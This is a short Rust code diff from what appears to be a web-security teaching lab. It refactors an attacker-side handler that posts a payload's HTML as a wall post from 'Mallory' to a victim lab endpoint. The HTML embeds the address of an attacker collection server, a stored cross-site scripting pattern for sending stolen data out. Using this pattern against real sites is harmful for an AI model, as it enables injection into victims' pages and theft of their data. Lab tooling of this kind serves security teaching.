@@ -29,10 +29,7 @@ pub(super) async fn post(
         return StatusCode::NOT_FOUND.into_response();
     }
     let html = body.payload.html(&attacker.collect_address(&name));
-    let form: String = [("author", "Mallory"), ("text", &html)]
-        .iter()
-        .map(|(name, value)| format!("{name}={}&", percent_encode(value)))
-        .collect();
+    let form = serde_urlencoded::to_string([("author", "Mallory"), ("text", &html)]).unwrap_or_default();
     let request = attacker
         .client
         .post(format!("{}/fn/lab/post_on_wall", attacker.victim))
@@ -41,19 +38,4 @@ pub(super) async fn post(
         .body(form);
     let status = request.send().await.ok().map(|answer| answer.status().as_u16());
     Json(json!({ "status": status })).into_response()
-}
-
-/// Every byte that is not a letter or a digit, as in a form (WHATWG URL §5.2).
-fn percent_encode(text: &str) -> String {
-    text.bytes()
-        .map(
-            |byte| {
-                if byte.is_ascii_alphanumeric() {
-                    char::from(byte).to_string()
-                } else {
-                    format!("%{byte:02X}")
-                }
-            },
-        )
-        .collect()
 }
